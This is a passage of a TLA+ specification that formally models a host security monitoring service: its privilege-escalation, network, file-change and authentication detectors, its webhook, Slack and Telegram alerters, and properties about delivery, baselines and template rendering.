            /\ FanOutOver => Len(sendResults) = Len(alerters))
    /\ [][~running /\ pc' # pc =>
            /\ (pc = "pass" /\ di > Len(detectors)) => pc' = "loop"
            /\ pc = "loop" => pc' = "stopped"]_vars

\* C7 witness: the signal came during a pass before the last detector was
\* invoked; that detector returned an event, which went to every alerter, and
\* the engine is back at the loop test without having slept
C7_Witness ==
    /\ pc = "loop" /\ ~running /\ ~testMode
    /\ sigAt >= 0 /\ sigAt < Len(invoked)
    /\ invoked = detectors
    /\ lastOutcome = "ok" /\ got >= 1 /\ done = got
    /\ Len(alerters) >= 1 /\ Len(sendResults) = Len(alerters)

\* initialization has visited nothing yet
NothingConstructed ==
    /\ \A i \in 1 .. Len(DetectorNames) : detCfg[i] = "unread"
    /\ whOutcome = <<>>
    /\ webhooks = <<>>
    /\ detectors = <<>> /\ alerters = <<>>

\* C8: a missing or unparsable configuration file ends the process with
\* status 1 before anything is constructed or registered, and nothing else
\* ends the process abnormally
C8_OnlyConfigFatal ==
    /\ cfgFailed => /\ pc = "exited" /\ exitCode = 1
                    /\ NothingConstructed /\ ~handlers /\ ~running
    /\ (pc = "crashed" \/ exitCode = 1) => cfgFailed

\* SAMS.__init__ has returned
InitOver == pc \in {"initialized", "test_alert", "run", "loop"}

\* the positions of the webhook entries that became active alerters
ActiveEntries == {i \in 1 .. Len(whOutcome) : whOutcome[i] = "active"}

\* C9: a constructor that raises only leaves its component out: the detector
\* list is exactly the classes whose constructor returned, in order, the
\* alerter list exactly the entries that were built and enabled, every class
\* was visited, and initialization goes on to the loop
C9_FailedCtorSkipped ==
    /\ detectors = PickDetectors({i \in 1 .. Len(DetectorNames) : detCfg[i] = "ok"})
    /\ Len(alerters) = Cardinality(ActiveEntries)
    /\ \A i \in 1 .. Len(alerters) :
          /\ alerters[i].entry \in ActiveEntries
          /\ \A j \in 1 .. Len(alerters) :
                i < j => alerters[i].entry < alerters[j].entry
    /\ InitOver => \A i \in 1 .. Len(DetectorNames) : detCfg[i] # "unread"
    /\ (\E i \in 1 .. Len(DetectorNames) : detCfg[i] = "raised")
          => pc \notin {"crashed", "exited"}
    /\ (\E i \in 1 .. Len(whOutcome) : whOutcome[i] = "raised")
          => pc \notin {"crashed", "exited"}

\* C9 witness: the first detector and the first alerter failed to construct,
\* the next of each kind was added, and the engine is in run() at the loop
C9_Witness ==
    /\ pc = "loop" /\ running
    /\ detCfg[1] = "raised" /\ detCfg[2] = "ok"
    /\ whOutcome = <<"raised", "active">>
    /\ Len(detectors) >= 1 /\ Len(alerters) = 1

\* the webhook entry at position e is enabled and carries its credential
Usable(e) == webhooks[e].enabled /\ webhooks[e].credential

\* C20: a webhook entry that is disabled or lacks its URL or token is never
\* among the active alerters and no send_alert ever goes through it; every
\* active alerter reports is_enabled(), and the list of active alerters does
\* not change once _initialize_alerters has returned.
C20_InactiveEntriesSkipped ==
    /\ [](\A e \in DOMAIN webhooks :
            ~Usable(e) =>
               /\ \A i \in DOMAIN alerters : alerters[i].entry # e
               /\ \A i \in DOMAIN sendResults : sendResults[i].to # e)
    /\ [](\A i \in DOMAIN alerters : is_enabled(alerters[i]))
    /\ [][pc # "init_alerters" => alerters' = alerters]_vars

\* C20 witness: the first entry lacked its credential, the second became
\* the only active alerter and has been sent the events of two detect() calls
C20_Witness ==
    /\ whOutcome = <<"not_enabled", "active">>
    /\ webhooks[1].enabled /\ ~webhooks[1].credential
    /\ FanOutOver /\ ~testMode
    /\ Len(invoked) >= 2
    /\ Len(sendResults) = 1 /\ sendResults[1].to = 2

\* C15: no delivery is retried. While an event is fanned out no alerter is
\* invoked twice, and when the fan-out is over every active alerter was
\* invoked once; the event then counts as done whatever the results were,
\* and the count of events done only grows by one or starts again at zero
\* with the events of the next detect().
C15_NoRetry ==
    /\ [](pc = "send" =>
            \A i, j \in DOMAIN sendResults :
                sendResults[i].to = sendResults[j].to => i = j)
    /\ [](FanOutOver => Len(sendResults) = Len(alerters))
    /\ [][(pc = "send" /\ pc' # "send") =>
             (FanOutOver /\ done' = done + 1)]_vars
    /\ [][(pc = "send" /\ sendResults' # sendResults) =>
             (ai' = ai + 1 /\ Len(sendResults') = Len(sendResults) + 1)]_vars
    /\ [][done' # done => (done' = done + 1 \/ (done' = 0 /\ pc = "pass"))]_vars

\* C15 witness: the pass is over; the last event went to two alerters, the
\* first delivery failed, and the event counts as done
C15_Witness ==
    /\ pc = "pass" /\ di > Len(detectors) /\ ~testMode
    /\ got >= 1 /\ done = got
    /\ Len(alerters) >= 2 /\ Len(sendResults) = Len(alerters)
    /\ sendResults[1].r = "false"
    /\ sendResults[2].r = "true"

\* C17: on the test-alert path one event is made, of type "test" and
\* severity "low"; it goes once through _process_event, with one send_alert
\* per active alerter in list order; no detect() is called, run() is never
\* entered, and when the fan-out is over the process exits with status 0.
C17_TestAlertPath ==
    /\ [](testMode =>
            /\ invoked = <<>>
            /\ ~running
            /\ pc \in {"test_alert", "event", "send", "exited"})
    /\ [](testMode /\ pc \in {"event", "send", "exited"} =>
            /\ event.event_type = "test" /\ event.severity = "low"
            /\ got = 1)
    /\ [](testMode /\ pc = "exited" =>
            /\ exitCode = 0
            /\ done = 1
            /\ [i \in 1 .. Len(sendResults) |-> sendResults[i].to]
                  = AlerterEntries
            /\ \A i \in DOMAIN sendResults :
                  sendResults[i].ev = to_dict(TestEvent))
    /\ [][(testMode /\ pc = "send" /\ pc' # "send") => pc' = "exited"]_vars

\* C17 witness: the process has exited after the test alert went to two
\* alerters, one of which failed
C17_Witness ==
    /\ testMode /\ pc = "exited"
    /\ Len(alerters) >= 2 /\ Len(sendResults) = Len(alerters)
    /\ sendResults[1].r = "raise"
    /\ sendResults[2].r = "true"

\* C19: an event changes in no step of its processing: from the moment
\* _process_event has it until the next event is taken, its fields stay as
\* they were constructed, and every alerter was handed exactly these values.
C19_EventNeverMutated ==
    /\ [][(pc = "send" /\ pc' \in {"send", "pass", "exited"}) =>
             event' = event]_vars
    /\ [](pc = "send" =>
            \A i \in DOMAIN sendResults : sendResults[i].ev = to_dict(event))
    /\ [](pc = "send" /\ ~testMode => event = EventOf(detectors[di]))

\* C19 witness: a detector's event has been handed to two alerters
C19_Witness ==
    /\ FanOutOver /\ ~testMode
    /\ Len(sendResults) >= 2
    /\ event.details # {}
    /\ sendResults[1].ev = sendResults[2].ev
    /\ sendResults[2].ev.details = event.details

EngineIdle ==
    /\ pc = "idle"
    /\ exitCode = -1
    /\ running = FALSE
    /\ handlers = FALSE
    /\ detectors = <<>>
    /\ alerters = <<>>
    /\ detCfg = [i \in 1 .. Len(DetectorNames) |-> "unread"]
    /\ whOutcome = <<>>
    /\ webhooks = <<>>
    /\ di = 0
    /\ got = 0
    /\ done = 0
    /\ ai = 0
    /\ sendResults = <<>>
    /\ interval = 0
    /\ sleepLeft = 0
    /\ invoked = <<>>
    /\ lastOutcome = "none"
    /\ failedPrev = FALSE
    /\ failedNow = FALSE
    /\ evFailed = FALSE
    /\ sigSeen = FALSE
    /\ testMode = FALSE
    /\ sigAt = -1
    /\ cfgFailed = FALSE
    /\ event = NoEvent

\* an alerter instance right after its constructor returned
InitAlerter ==
    /\ EngineIdle
    /\ \E cfg \in WebhookConfigs :
          /\ ~CtorRaises(AlerterClass(cfg.type), cfg)
          /\ altCfg = cfg
          /\ alt = AlerterNew(AlerterClass(cfg.type), cfg)
    /\ DetIdle
    /\ AuxIdle
    /\ lastSend = NoSend
    /\ sends = 0
    /\ netCalls = 0
    /\ body_template = NoTemplate
    /\ payload = NoPayload

\* one call of send_alert, with the result r it computes
SendCall(r) ==
    /\ sends < MaxSends
    /\ sends' = sends + 1
    /\ lastSend' = r
    /\ netCalls' = IF r.attempted THEN netCalls + 1 ELSE netCalls
    /\ UNCHANGED <<alt, altCfg, body_template, payload, engineVars, detVars,
                   auxVars>>

WebhookAlerter_send_alert ==
    /\ alt.class = "webhook"
    /\ \E ev \in EventInputs, net \in NetOutcomes, errOk \in BOOLEAN :
          SendCall(WebhookSend(alt, ev, net, errOk))

SlackAlerter_send_alert ==
    /\ alt.class \in {"slack", "mattermost"}
    /\ \E ev \in EventInputs, net \in NetOutcomes, errOk \in BOOLEAN :
          SendCall(SlackSend(alt, ev, net, errOk))

TelegramAlerter_send_alert ==
    /\ alt.class = "telegram"
    /\ \E ev \in EventInputs, net \in NetOutcomes, errOk \in BOOLEAN :
          SendCall(TelegramSend(alt, ev, net, errOk))

NextAlerter ==
    \/ WebhookAlerter_send_alert
    \/ SlackAlerter_send_alert
    \/ TelegramAlerter_send_alert

\* one alerter instance and the send_alert calls made on it
SpecAlerter == InitAlerter /\ [][NextAlerter]_vars

(* ----------------------- properties of the alerters --------------------- *)
\* C3: send_alert never raises; it returns true only when a request was made
\* and answered with a 2xx status; a connection error, a timeout or a non-2xx
\* answer gives false
C3_SendAlertTotal ==
    /\ lastSend.result # "raise"
    /\ lastSend.result = "true" =>
          /\ lastSend.attempted
          /\ lastSend.net.kind = "response"
          /\ lastSend.net.status >= 200 /\ lastSend.net.status < 300
    /\ (/\ lastSend.attempted
        /\ \/ lastSend.net.kind \in {"conn_error", "timeout"}
           \/ lastSend.net.status < 200 \/ lastSend.net.status >= 300)
          => lastSend.result = "false"

\* the instance lacks what the claim calls its required credential, or its
\* configuration says enabled: false
Disabled ==
    \/ ~altCfg.enabled
    \/ alt.class \in {"webhook", "slack", "mattermost"} /\ ~altCfg.url
    \/ alt.class = "telegram" /\ (~altCfg.bot_token \/ ~altCfg.chat_id)

\* C4: a disabled instance has never made an HTTP request and none of its
\* send_alert calls returned anything but false
C4_DisabledNeverSends ==
    Disabled => /\ netCalls = 0
                /\ lastSend.result \in {"none", "false"}
                /\ ~lastSend.attempted
                /\ ~is_enabled(alt)

\* C4 witness: a Telegram alerter configured enabled with a bot token but no
\* chat id has been called MaxSends times and answered false each time
C4_Witness ==
    /\ alt.class = "telegram"
    /\ altCfg.enabled /\ altCfg.bot_token /\ ~altCfg.chat_id
    /\ sends = MaxSends
    /\ lastSend.result = "false"
    /\ netCalls = 0

(* --------------------------- template rendering ------------------------- *)
\* the keys of SecurityEvent.to_dict, in the order the dictionary holds them
EventKeys ==
    <<"timestamp", "event_type", "severity", "message", "source", "details">>

\* f"{{event.{event_key}}}"
Placeholder ==
    [timestamp |-> "{event.timestamp}", event_type |-> "{event.event_type}",
     severity |-> "{event.severity}", message |-> "{event.message}",
     source |-> "{event.source}", details |-> "{event.details}"]

\* a value of a template or of an event: a string, given by its pieces, or
\* something else, given by the pieces of its str()
StrValue(text) == [str |-> TRUE, text |-> text]

OtherValue(text) == [str |-> FALSE, text |-> text]

\* the pieces a string value of the template is made of: plain text, three
\* placeholders of event fields and one of a field no event has
TplTokens ==
    {"alert ", Placeholder["severity"], Placeholder["message"],
     Placeholder["source"], "{event.user}"}

\* the string values of a template
TplTexts == UNION {[1 .. n -> TplTokens] : n \in 0 .. MaxTplLen}

\* the values of "body_template" that are mappings: a string under "text"
\* and under "meta" a number or a nested mapping that holds a placeholder
Templates ==
    [text : {StrValue(t) : t \in TplTexts},
     meta : {OtherValue(<<"5">>), OtherValue(<<Placeholder["message"]>>)}]

\* the event dictionaries: what the message says comes from the detector,
\* the name of a file or of a user stands in it as it was found
TplEvents ==
    [timestamp : {StrValue(<<"2026-11-06T07:59:02Z">>)},
     event_type : {StrValue(<<"file_change">>)},
     severity : {StrValue(<<"high">>)},
     message : {StrValue(<<"New file: ", name>>) :
                   name \in {"/etc/cron.d/job", Placeholder["severity"],
                             Placeholder["source"], Placeholder["details"]}},
     source : {StrValue(<<"localhost">>)},
     details : {OtherValue(<<"{'file': '", name, "'}">>) :
                   name \in {"/etc/cron.d/job", Placeholder["source"]}}]

\* str(event_value)
str(value) == value.text

\* value.replace(placeholder, text) on the pieces of value
RECURSIVE str_replace(_, _, _)
str_replace(value, placeholder, text) ==
    IF value = <<>> THEN <<>>
    ELSE (IF Head(value) = placeholder THEN text ELSE <<Head(value)>>)
            \o str_replace(Tail(value), placeholder, text)

\* the inner loop of _apply_template from the ki-th key of the event on
RECURSIVE ReplaceFrom(_, _, _)
ReplaceFrom(value, ev, ki) ==
    IF ki > Len(EventKeys) THEN value
    ELSE LET placeholder == Placeholder[EventKeys[ki]]
         IN ReplaceFrom(IF \E i \in DOMAIN value : value[i] = placeholder
                        THEN str_replace(value, placeholder,
                                         str(ev[EventKeys[ki]]))
                        ELSE value,
                        ev, ki + 1)

\* WebhookAlerter._apply_template
_apply_template(template, ev) ==
    [key \in DOMAIN template |->
        IF template[key].str
        THEN StrValue(ReplaceFrom(template[key].text, ev, 1))
        ELSE template[key]]

\* a WebhookAlerter constructed with a mapping as body_template
InitTpl ==
    /\ EngineIdle
    /\ DetIdle
    /\ AuxIdle
    /\ \E cfg \in WebhookConfigs :
          /\ cfg.type = "webhook" /\ cfg.enabled /\ cfg.url
          /\ cfg.method = "POST" /\ cfg.template = "dict"
          /\ ~cfg.bot_token /\ ~cfg.chat_id
          /\ altCfg = cfg
          /\ alt = AlerterNew("webhook", cfg)
    /\ lastSend = NoSend
    /\ sends = 0
    /\ netCalls = 0
    /\ body_template \in Templates
    /\ payload = NoPayload

\* WebhookAlerter.send_alert with a template: the payload is rendered and the
\* request is made
WebhookAlerter_render ==
    /\ alt.class = "webhook"
    /\ sends < MaxSends
    /\ \E ev \in TplEvents, net \in NetOutcomes, errOk \in BOOLEAN :
          /\ payload' = [event |-> <<ev>>,
                         result |-> <<_apply_template(body_template, ev)>>]
          /\ lastSend' = WebhookSend(alt, [sevOk |-> TRUE, tsOk |-> TRUE],
                                     net, errOk)
          /\ netCalls' = IF lastSend'.attempted THEN netCalls + 1 ELSE netCalls
    /\ sends' = sends + 1
    /\ UNCHANGED <<alt, altCfg, body_template, engineVars, detVars, auxVars>>

NextTpl ==
    \/ WebhookAlerter_render

SpecTpl == InitTpl /\ [][NextTpl]_vars

(* --------------------- properties of the rendering ---------------------- *)
\* the string with every placeholder of an event field replaced by the str()
\* of that field and nothing else changed
RECURSIVE Literal(_, _)
Literal(value, ev) ==
    IF value = <<>> THEN <<>>
    ELSE (IF \E k \in DOMAIN Placeholder : Head(value) = Placeholder[k]
          THEN ev[CHOOSE k \in DOMAIN Placeholder :
                     Head(value) = Placeholder[k]].text
          ELSE <<Head(value)>>)
            \o Literal(Tail(value), ev)

\* C27: the payload rendered from a template holds, for every string value
\* of the template, that string with every placeholder {event.<field>}
\* replaced by the str() of the field and nothing else changed, text that came
\* from a field not being expanded again; every other value is passed through.
C27_LiteralSubstitution ==
    payload # NoPayload =>
       LET ev == payload.event[1]
           result == payload.result[1]
       IN /\ DOMAIN result = DOMAIN body_template
          /\ \A key \in DOMAIN body_template :
                IF body_template[key].str
                THEN result[key] =
                        StrValue(Literal(body_template[key].text, ev))
                ELSE result[key] = body_template[key]

\* the parts of C27 that do not depend on what the fields hold: values that
\* are not strings are passed through, and when no field of the event holds
\* a placeholder the string values are substituted literally
C27_PlainFields ==
    payload # NoPayload =>
       LET ev == payload.event[1]
           result == payload.result[1]
       IN /\ DOMAIN result = DOMAIN body_template
          /\ \A key \in DOMAIN body_template :
                /\ ~body_template[key].str => result[key] = body_template[key]
                /\ (/\ body_template[key].str
                    /\ \A f \in DOMAIN ev, k \in DOMAIN Placeholder :
                          \A i \in DOMAIN ev[f].text :
                             ev[f].text[i] # Placeholder[k]) =>
                      result[key] =
                         StrValue(Literal(body_template[key].text, ev))

(* ---------------------------- detector runs ----------------------------- *)
\* the files and sockets the detectors look at
Underlying == [suid |-> fsSuid, sgid |-> fsSgid, ports |-> listening,
               files |-> fsFiles]

\* no cycle has run since the detector was constructed
NoCycle ==
    /\ lastState = NoObs
    /\ dEvents = {}
    /\ observed = {}
    /\ added = FALSE /\ prevAdded = FALSE /\ sameState = FALSE
    /\ delivery = "none" /\ prevFailed = FALSE

\* PrivilegeEscalationDetector.__init__: the baseline is the first inventory
PrivilegeEscalationDetector_init(suid, sgid) ==
    {[conf |-> NoConf, known_suid_files |-> _get_suid_files(scan, suid, sgid),
      known_listeners |-> {}, file_hashes |-> NoHashes] :
        scan \in ScanOutcomes}

\* NetworkAnomalyDetector.__init__: the baseline is the first listing
NetworkAnomalyDetector_init(ports) ==
    {[conf |-> [expected_ports |-> expected], known_suid_files |-> {},
      known_listeners |-> _get_listening_ports(ssOk, ports),
      file_hashes |-> NoHashes] :
        ssOk \in BOOLEAN, expected \in ExpectedChoices}

\* FileChangeDetector.__init__: the baseline is read from the hash file
FileChangeDetector_init(hf) ==
    {[conf |-> NoConf, known_suid_files |-> {}, known_listeners |-> {},
      file_hashes |-> _load_hashes(hf)]}

\* the objects the constructor of detector d can return on this machine
DetectorNew(d) ==
    CASE d = "privilege_escalation" ->
            PrivilegeEscalationDetector_init(fsSuid, fsSgid)
      [] d = "network_anomalies" -> NetworkAnomalyDetector_init(listening)
      [] OTHER -> FileChangeDetector_init(hashFile)

\* one detector is constructed for the first time (no hash file yet) on a
\* machine in any state
InitDet ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ AuxIdle
    /\ det \in BaselineDetectors
    /\ fsSuid \in SUBSET Paths /\ fsSgid \in SUBSET Paths
    /\ listening \in SUBSET PortValues
    /\ fsFiles \in [TrackedFiles -> FileStates]
    /\ hashFile = NoHashFile
    /\ det # "privilege_escalation" => fsSuid = {} /\ fsSgid = {}
    /\ det # "network_anomalies" => listening = {}
    /\ det # "file_changes" => fsFiles = [f \in TrackedFiles |-> Absent]
    /\ \E o \in DetectorNew(det) :
          /\ detConf = o.conf
          /\ known_suid_files = o.known_suid_files
          /\ known_listeners = o.known_listeners
          /\ file_hashes = o.file_hashes
    /\ NoCycle

\* the bookkeeping of a cycle: whether it added members to the baseline, and
\* whether the machine is as the cycle before found it
Cycle(adds) ==
    /\ prevAdded' = added
    /\ added' = adds
    /\ sameState' = (lastState = Underlying)
    /\ lastState' = Underlying
    /\ prevFailed' = (delivery = "failed")
    /\ delivery' = IF dEvents' # {} THEN "pending" ELSE "none"

\* a file gains or loses its SUID or SGID bit
ChangeSuid ==
    /\ det = "privilege_escalation"
    /\ \E p \in Paths :
          \/ /\ fsSuid' = (IF p \in fsSuid THEN fsSuid \ {p}
                           ELSE fsSuid \cup {p})
             /\ UNCHANGED fsSgid
          \/ /\ fsSgid' = (IF p \in fsSgid THEN fsSgid \ {p}
                           ELSE fsSgid \cup {p})
             /\ UNCHANGED fsSuid
    /\ UNCHANGED <<det, detConf, listening, fsFiles, hashFile,
                   known_suid_files, known_listeners, file_hashes, lastState,
                   dEvents, observed, added, prevAdded, sameState, delivery, prevFailed,
                   engineVars,
                   alerterVars, auxVars>>

\* a socket starts or stops listening
ChangeListening ==
    /\ det = "network_anomalies"
    /\ \E port \in PortValues :
          listening' = (IF port \in listening THEN listening \ {port}
                        ELSE listening \cup {port})
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, fsFiles, hashFile,
                   known_suid_files, known_listeners, file_hashes, lastState,
                   dEvents, observed, added, prevAdded, sameState, delivery, prevFailed,
                   engineVars,
                   alerterVars, auxVars>>

\* a tracked file is created, rewritten, removed or made unreadable
ChangeFile ==
    /\ det = "file_changes"
    /\ \E f \in TrackedFiles, h \in FileStates :
          /\ h # fsFiles[f]
          /\ fsFiles' = [fsFiles EXCEPT ![f] = h]
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, listening, hashFile,
                   known_suid_files, known_listeners, file_hashes, lastState,
                   dEvents, observed, added, prevAdded, sameState, delivery, prevFailed,
                   engineVars,
                   alerterVars, auxVars>>

\* PrivilegeEscalationDetector._check_suid_changes
_check_suid_changes ==
    /\ det = "privilege_escalation"
    /\ delivery # "pending"
    /\ \E scan \in ScanOutcomes :
          LET current_suid == _get_suid_files(scan, fsSuid, fsSgid) IN
             /\ observed' = current_suid
             /\ dEvents' = SuidEvents(current_suid, known_suid_files)
             /\ known_suid_files' = SuidBaseline(current_suid, known_suid_files)
             /\ Cycle(SuidNew(current_suid, known_suid_files) # {})
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, listening, fsFiles, hashFile,
                   known_listeners, file_hashes, engineVars, alerterVars, auxVars>>

\* NetworkAnomalyDetector._check_listening_ports
_check_listening_ports ==
    /\ det = "network_anomalies"
    /\ delivery # "pending"
    /\ \E ssOk \in BOOLEAN :
          LET current_ports == _get_listening_ports(ssOk, listening) IN
             /\ observed' = current_ports
             /\ dEvents' = ListenerEvents(current_ports, known_listeners,
                                          detConf.expected_ports)
             /\ known_listeners' = ListenerBaseline(current_ports,
                                                    known_listeners)
             /\ Cycle(current_ports \ known_listeners # {})
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, listening, fsFiles, hashFile,
                   known_suid_files, file_hashes, engineVars, alerterVars, auxVars>>

\* FileChangeDetector._check_file_hashes, the closing _save_hashes included
_check_file_hashes ==
    /\ det = "file_changes"
    /\ delivery # "pending"
    /\ dEvents' = CriticalEvents(fsFiles, file_hashes)
                     \cup DirEvents(fsFiles, file_hashes)
    /\ file_hashes' = HashBaseline(fsFiles, file_hashes)
    /\ \E outcome \in SaveOutcomes :
          hashFile' = _save_hashes(outcome, hashFile, file_hashes')
    /\ Cycle(Keys(file_hashes') # Keys(file_hashes))
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, listening, fsFiles, observed,
                   known_suid_files, known_listeners, engineVars, alerterVars, auxVars>>

\* SAMS._process_event for the events of the cycle: every alerter is tried
\* for every event; nothing of the detector is touched
ProcessCycleEvents ==
    /\ delivery = "pending"
    /\ delivery' \in {"sent", "failed"}
    /\ UNCHANGED <<det, detConf, fsSuid, fsSgid, listening, fsFiles, hashFile,
                   known_suid_files, known_listeners, file_hashes, lastState,
                   dEvents, observed, added, prevAdded, sameState, prevFailed,
                   engineVars, alerterVars, auxVars>>

\* the process is started again: the detector is constructed anew
Restart ==
    /\ det \in BaselineDetectors
    /\ \E o \in DetectorNew(det) :
          /\ detConf' = o.conf
          /\ known_suid_files' = o.known_suid_files
          /\ known_listeners' = o.known_listeners
          /\ file_hashes' = o.file_hashes
    /\ lastState' = NoObs
    /\ dEvents' = {}
    /\ observed' = {}
    /\ added' = FALSE /\ prevAdded' = FALSE /\ sameState' = FALSE
    /\ delivery' = "none" /\ prevFailed' = FALSE
    /\ UNCHANGED <<det, fsSuid, fsSgid, listening, fsFiles, hashFile,
                   engineVars, alerterVars, auxVars>>

NextDet ==
    \/ ChangeSuid
    \/ ChangeListening
    \/ ChangeFile
    \/ _check_suid_changes
    \/ _check_listening_ports
    \/ _check_file_hashes
    \/ ProcessCycleEvents
    \/ Restart

SpecDet == InitDet /\ [][NextDet]_vars

(* ---------------------- properties of the detectors --------------------- *)
\* C10: for each of the three baselines (SUID/SGID paths, listening ports,
\* file hashes), a cycle that comes right after a cycle that added members to
\* the baseline, and that finds the files and sockets as that cycle left
\* them, returns no baseline event.
C10_RepeatCycleSilent == (prevAdded /\ sameState) => dEvents = {}

\* the events the latest cycle returned about file f
EventsAbout(events, f) == {e \in events : e.file = f}

\* C11: in every cycle, for every file of CRITICAL_FILES that exists and can
\* be hashed: with no stored hash the cycle returns no event about the file
\* and stores its hash; with a stored hash that differs from the current one
\* it returns exactly one critical event about the file, carrying the stored
\* hash as previous_hash and a different current_hash, and stores the current
\* hash.
C11_CriticalFileBaseline ==
    [][_check_file_hashes =>
         \A f \in CRITICAL_FILES :
            LET cur == fsFiles[f]
                stored == file_hashes[f]
                about == EventsAbout(dEvents', f)
            IN  /\ (cur \in Hashes /\ stored = NoEntry) =>
                      about = {} /\ file_hashes'[f] = cur
                /\ (cur \in Hashes /\ stored # NoEntry /\ stored # cur) =>
                      /\ about = {Event("critical_modified", {}, 0, f,
                                        stored, cur)}
                      /\ Cardinality(about) = 1
                      /\ \A e \in about : e.prev # e.cur
                      /\ file_hashes'[f] = cur]_vars

\* C11 witness: a cycle reported a changed critical file, after an earlier
\* cycle had stored its first hash without an event
C11_Witness ==
    /\ det = "file_changes"
    /\ \E f \in CRITICAL_FILES :
          /\ EventsAbout(dEvents, f) # {}
          /\ \A e \in EventsAbout(dEvents, f) :
                /\ e.kind = "critical_modified"
                /\ e.prev \in Hashes /\ e.cur \in Hashes /\ e.prev # e.cur
                /\ file_hashes[f] = e.cur

\* C12: after every cycle of FileChangeDetector the hash file holds the
\* in-memory mapping: what a constructor would load from it after a restart
\* is exactly file_hashes, so that the restarted detector reports nothing
\* about unchanged files.
C12_HashFilePersisted ==
    [][_check_file_hashes => _load_hashes(hashFile') = file_hashes']_vars

\* the baseline holds what event e reported
Baselined(e) ==
    CASE e.kind = "suid_change" -> e.paths \subseteq known_suid_files
      [] e.kind = "new_listener" -> e.port \in known_listeners
      [] OTHER -> file_hashes[e.file] = e.cur

\* event later reports again something that event earlier reported
Again(earlier, later) ==
    /\ earlier.kind = later.kind
    /\ CASE earlier.kind = "suid_change" -> earlier.paths \cap later.paths # {}
         [] earlier.kind = "new_listener" -> earlier.port = later.port
         [] OTHER -> earlier.file = later.file

\* a detect() of the detector under observation
CycleStep ==
    _check_suid_changes \/ _check_listening_ports \/ _check_file_hashes

\* C14: the baseline holds what an event reported from the moment detect()
\* returned it, whatever becomes of its delivery; and when every delivery of
\* the events of a cycle failed, the next cycle, with files and sockets
\* unchanged, reports none of them again.
C14_BaselineAheadOfDelivery ==
    /\ [](\A e \in dEvents : Baselined(e))
    /\ [][(CycleStep /\ delivery = "failed" /\ lastState = Underlying) =>
             \A e \in dEvents, f \in dEvents' : ~Again(e, f)]_vars

\* C14 witness: the alerts about new SUID files all failed, and the cycle
\* after it found the same files and reported nothing
C14_Witness ==
    /\ det = "privilege_escalation"
    /\ prevFailed /\ prevAdded /\ sameState
    /\ known_suid_files # {}
    /\ dEvents = {}

\* C21: a cycle whose inventory holds a path that known_suid_files does not
\* returns exactly one event, critical, whose new_files is the inventory
\* minus known_suid_files, and leaves known_suid_files equal to the inventory.
C21_NewSuidOneEvent ==
    [][(_check_suid_changes /\ observed' \ known_suid_files # {}) =>
          /\ dEvents' = {Event("suid_change", observed' \ known_suid_files,
                               0, "", 0, 0)}
          /\ Cardinality(dEvents') = 1
          /\ \A e \in dEvents' : e.severity = "critical"
          /\ known_suid_files' = observed']_vars

\* C21 witness: a cycle found two new paths at once and reported them in one
\* event
C21_Witness ==
    /\ det = "privilege_escalation"
    /\ known_suid_files = observed
    /\ \E e \in dEvents : e.kind = "suid_change" /\ Cardinality(e.paths) = 2
    /\ Cardinality(dEvents) = 1

\* C30: a cycle whose inventory holds no path outside known_suid_files
\* returns no event and leaves known_suid_files as it was; known_suid_files
\* of a constructed detector changes only in a cycle that found a new path.
C30_NoNewSuidNoChange ==
    /\ [][(_check_suid_changes /\ observed' \ known_suid_files = {}) =>
             /\ dEvents' = {}
             /\ known_suid_files' = known_suid_files]_vars
    /\ [][(known_suid_files' # known_suid_files) =>
             \/ Restart
             \/ _check_suid_changes /\ observed' \ known_suid_files # {}]_vars

\* C30 witness: the inventory of the latest cycle lost a path (or came back
\* empty from a failed scan) and known_suid_files still holds it
C30_Witness ==
    /\ det = "privilege_escalation"
    /\ lastState # NoObs
    /\ dEvents = {}
    /\ observed # known_suid_files
    /\ observed \subseteq known_suid_files
    /\ fsSuid \cup fsSgid # {}

\* C22: every listener check returns one new_listener event, high, for each
\* port that is in the listing, not in known_listeners and not expected, and
\* no other; afterwards known_listeners is the listing, event or not.
C22_ListenersBaselined ==
    [][_check_listening_ports =>
          /\ dEvents' = {Event("new_listener", {}, port, "", 0, 0) :
                            port \in (observed' \ known_listeners)
                                        \ detConf.expected_ports}
          /\ \A e \in dEvents' : e.severity = "high"
          /\ known_listeners' = observed']_vars

\* C22 witness: a check found the expected port 8080 newly bound, returned
\* no event and has it in known_listeners
C22_Witness ==
    /\ det = "network_anomalies"
    /\ added /\ dEvents = {}
    /\ 8080 \in detConf.expected_ports
    /\ 8080 \in known_listeners
    /\ known_listeners = observed

\* C23: in every cycle, for every file the glob over the watched directories
\* finds: with no stored hash there is exactly one event about it, a high
\* "new file" event, and its hash is stored; with a stored hash that differs
\* there is exactly one, a high "modified" event, and the hash is updated;
\* with an equal stored hash there is none.
C23_DirectoryFiles ==
    [][_check_file_hashes =>
          \A f \in DirFiles :
             LET cur    == fsFiles[f]
                 stored == file_hashes[f]
                 about  == EventsAbout(dEvents', f)
             IN cur # Absent =>
                  /\ stored = NoEntry =>
                        /\ about = {Event("new_file", {}, 0, f, NoEntry, cur)}
                        /\ file_hashes'[f] = cur
                  /\ (stored # NoEntry /\ stored # cur) =>
                        /\ about = {Event("dir_modified", {}, 0, f, stored, cur)}
                        /\ file_hashes'[f] = cur
                  /\ stored = cur => about = {}
                  /\ Cardinality(about) <= 1
                  /\ \A e \in about : e.severity = "high"]_vars

\* C23 witness: the first cycle after a start without a hash file reported a
\* file of a watched directory as new and stored its hash
C23_Witness ==
    /\ det = "file_changes"
    /\ ~prevAdded /\ added
    /\ \E f \in DirFiles :
          /\ fsFiles[f] \in Hashes
          /\ file_hashes[f] = fsFiles[f]
          /\ \E e \in dEvents : e.kind = "new_file" /\ e.file = f
                                   /\ e.cur = fsFiles[f]

(* ------------------------------ journal scans --------------------------- *)
\* the windows of the journal: up to MaxLines entries
Journals(lines) == UNION {[1 .. n -> lines] : n \in 0 .. MaxLines}

\* the detectors that scan the journal
LogDetectors == {"auth_failures"}

\* the entries the journal can hold when detector d is looked at
LinesFor(d) == AuthLines

\* the time of the first cycle; the constructor ran one timeframe before
FirstNow == 1

\* one journal-scanning detector, a threshold and a window of the journal
InitLog ==
    /\ EngineIdle
    /\ AlerterIdle
    /\ DetIdle
    /\ CallIdle
    /\ logDet \in LogDetectors
    /\ threshold \in 1 .. MaxThreshold
